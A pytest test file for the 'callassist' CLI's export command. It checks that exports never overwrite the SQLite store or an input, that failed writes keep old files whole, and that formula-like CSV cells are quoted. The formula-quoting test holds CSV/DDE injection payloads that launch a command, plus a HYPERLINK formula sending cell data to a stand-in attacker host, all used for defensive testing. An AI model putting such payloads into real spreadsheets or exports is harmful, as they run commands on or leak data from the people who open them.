"""Export findings D2 (writing over the store), W2 (CSV formulas), W6 (`-o dir/`): output never
writes over an input or the store, and a failed write leaves the old file whole."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
from pathlib import Path

import pytest

from callassist.store.export import csv_cell

REPO = Path(__file__).resolve().parents[2]
CALL = REPO / "tests" / "corpus" / "dev-004.json"


@pytest.fixture
def store(cli, tmp_path) -> Path:
    assert cli("analyze", CALL, "--save").code == 0
    return tmp_path / "calls.sqlite3"


def test_d2_export_onto_the_store_file_is_refused_and_the_store_survives(cli, store):
    before = store.read_bytes()
    error = cli("calls", "export", "--format", "csv", "-o", store).error
    assert "refusing to write over" in error
    assert store.read_bytes()[:16] == before[:16] == b"SQLite format 3\x00"
    assert cli("calls", "list").out.count("\n") == 2  # header + the call


def test_d2_export_onto_the_store_is_refused_even_with_force(cli, store):
    assert "refusing" in cli("calls", "export", "--force", "-o", store).error


def test_d2_export_onto_another_sqlite_file_needs_force(cli, store, tmp_path):
    other = tmp_path / "backup.sqlite3"
    shutil.copy(store, other)
    assert "--force" in cli("calls", "export", "-o", other).error
    assert other.read_bytes() == store.read_bytes()
    assert cli("calls", "export", "--force", "-o", other).code == 0
    assert other.read_text("utf-8-sig").startswith("call_id,")


def test_d2_export_through_a_link_to_the_store_is_refused(cli, store, tmp_path):
    link = tmp_path / "innocent.csv"
    os.symlink(store, link)
    assert "refusing" in cli("calls", "export", "-o", link).error


def test_d2_a_failed_write_keeps_the_old_report_whole(cli, store, tmp_path, monkeypatch):
    report = tmp_path / "report.csv"
    report.write_text("old report\n")

    def full(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    error = cli("calls", "export", "-o", report).error
    assert "No space left" in error
    assert report.read_text() == "old report\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []


@pytest.mark.parametrize("payload", [
    "=cmd|'/C calc'!A0", '@SUM(1+1)*cmd|"/C calc"!A0', "+1+1", "-2+3", "\t=1", " =1+1",
])
def test_w2_csv_cells_that_start_like_formulas_are_quoted(cli, tmp_path, monkeypatch, payload):
    monkeypatch.setenv("CALLASSIST_AGENT", payload)
    title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    doc = tmp_path / "=1+1.json"
    doc.write_text(json.dumps({**json.loads(CALL.read_text()), "title": title}))
    assert cli("analyze", doc, "--save").code == 0
    out = tmp_path / "report.csv"
    assert cli("calls", "export", "--format", "csv", "-o", out).code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8-sig"))))
    row = rows[0]
    for column in ("agent", "source", "title"):
        assert not row[column].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert row["agent"] == "'" + payload.strip()  # the agent setting is stripped
    assert row["title"].startswith("'=HYPERLINK")


def test_w2_numbers_stay_numbers():
    assert csv_cell(-2) == -2 and csv_cell(3.5) == 3.5 and csv_cell("Dana") == "Dana"


def test_w6_a_json_export_to_a_new_folder_path_writes_into_the_folder(cli, store, tmp_path):
    target = tmp_path / "jsondir_new"
    assert cli("calls", "export", "1", "--format", "json", "-o", f"{target}/").code == 0
    assert target.is_dir() and (target / "call-1.json").is_file()


def test_w6_csv_to_a_folder_path_is_a_one_line_error(cli, store, tmp_path):
    assert "is a folder" in cli("calls", "export", "-o", f"{tmp_path}/new/").error
